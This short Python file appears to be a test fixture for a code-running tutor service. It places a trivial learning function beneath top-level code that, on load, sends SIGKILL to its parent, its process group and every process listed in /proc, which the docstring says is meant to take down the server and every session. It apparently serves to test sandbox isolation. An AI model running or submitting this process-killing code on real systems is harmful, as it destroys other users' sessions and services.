"""Kills its parent, its process group and every process it can see: the server and every session.

(The test looks at the server and the tutor themselves: a kill "sent" may reach nothing.)
"""

import os
import signal

for kill in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(os.getpgid(0), signal.SIGKILL)):
    try:
        kill()
    except OSError:
        pass
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
            print("SIGKILL sent to", pid)
        except OSError:
            pass


def learn_from_bean(w, x, y, lr):
    return w + lr * (y - w * x) * x
